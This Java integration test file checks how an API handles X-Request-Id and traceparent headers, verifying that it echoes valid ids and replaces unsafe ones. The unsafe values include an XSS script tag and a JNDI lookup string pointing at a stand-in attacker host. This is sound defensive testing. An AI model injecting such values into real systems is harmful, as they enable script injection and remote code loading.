package dev.storeys.api;

import static dev.storeys.api.shop.Shop.aCustomer;
import static org.assertj.core.api.Assertions.assertThat;

import dev.storeys.api.http.Answer;
import dev.storeys.api.http.RawRequest;
import dev.storeys.api.http.Request;
import java.util.HexFormat;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** By which id a request can be asked about, from whichever process its answer comes. */
class RequestIdIntegrationTests {

    /** Answers of a service, of the entry itself, and refusals of both. */
    private static Stream<Request> requests() {
        return Stream.of(
                Request.get("/api/v1/products?limit=1"),
                Request.get("/api/v1/products/" + UUID.randomUUID()),
                Request.get("/api/v1/cart").as(aCustomer()),
                Request.get("/api/v1/cart"),
                Request.get("/api/v1/topology"),
                Request.get("/"),
                Request.get("/nothing"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"12345678", "order-4711-again", "0198c0de-0000-7000-8000-000000000000"})
    void isTheClientsOwn(String id) {
        requests()
                .forEach(request -> {
                    Answer answer = request.header("X-Request-Id", id).send();
                    assertThat(answer.headers().get("x-request-id")).containsExactly(id);
                });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "short",
                "",
                "with space and more",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/a}",
                "under_score_and_more",
                "12345678901234567890123456789012345678901234567890123456789012345"
            })
    void isNotWhatCouldDoHarm(String id) {
        requests()
                .forEach(request -> {
                    Answer answer = request.header("X-Request-Id", id).send();
                    assertThat(answer.headers().get("x-request-id"))
                            .singleElement()
                            .asString()
                            .matches("[0-9a-f]{32}")
                            .isNotEqualTo(id);
                });
    }

    @Test
    void isElseTheTraceThatTheProblemNames() {
        for (Request request : requests().toList()) {
            Answer answer = request.send();
            String id = answer.header("X-Request-Id").orElse("");
            assertThat(id).matches("[0-9a-f]{32}");
            if (answer.status() >= 400) {
                assertThat(answer.text("/traceId")).as(answer::toString).isEqualTo(id);
            }
        }
    }

    @Test
    void differsFromRequestToRequest() {
        List<String> ids =
                Stream.generate(() -> Request.get("/api/v1/products?limit=1").send())
                        .limit(20)
                        .map(answer -> answer.header("X-Request-Id").orElse(""))
                        .toList();

        assertThat(ids).doesNotHaveDuplicates().doesNotContain("");
    }

    @Test
    void isGivenEvenWhenTheRequestCannotBeRead() {
        Answer answer = RawRequest.of("GET /api/v1/products/<> HTTP/1.1").end().send();

        answer.mustBeRefused();
        assertThat(answer.header("X-Request-Id"))
                .contains(Objects.requireNonNull(answer.text("/traceId")));
    }

    /** Each of these refusals comes from another process, where the stage has several. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/products/00000000-0000-7000-8000-000000000000",
                "/api/v1/orders/00000000-0000-7000-8000-000000000000",
                "/api/v1/notifications?limit=x",
                "/api/v1/nothing"
            })
    void belongsToTheTraceThatTheClientBegan(String path) {
        String trace = hex() + hex();

        Answer answer =
                Request.get(path)
                        .as(aCustomer())
                        .header("traceparent", "00-" + trace + "-" + hex() + "-00")
                        .send()
                        .mustBeRefused();

        assertThat(answer.text("/traceId")).as(answer::toString).isEqualTo(trace);
        assertThat(answer.header("X-Request-Id")).contains(trace);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "nonsense",
                "00-00000000000000000000000000000000-0000000000000000-01",
                "00-zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz-zzzzzzzzzzzzzzzz-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736"
            })
    void doesNotComeFromATraceThatIsNone(String traceparent) {
        Answer answer =
                Request.get("/api/v1/products/" + UUID.randomUUID())
                        .header("traceparent", traceparent)
                        .send()
                        .mustBeProblem(404);

        assertThat(answer.text("/traceId"))
                .matches("[0-9a-f]{32}")
                .doesNotMatch("0+")
                .isNotEqualTo("4bf92f3577b34da6a3ce929d0e0e4736");
    }

    private static String hex() {
        // Not zero, which would be no trace.
        return HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextLong(1, Long.MAX_VALUE));
    }
}
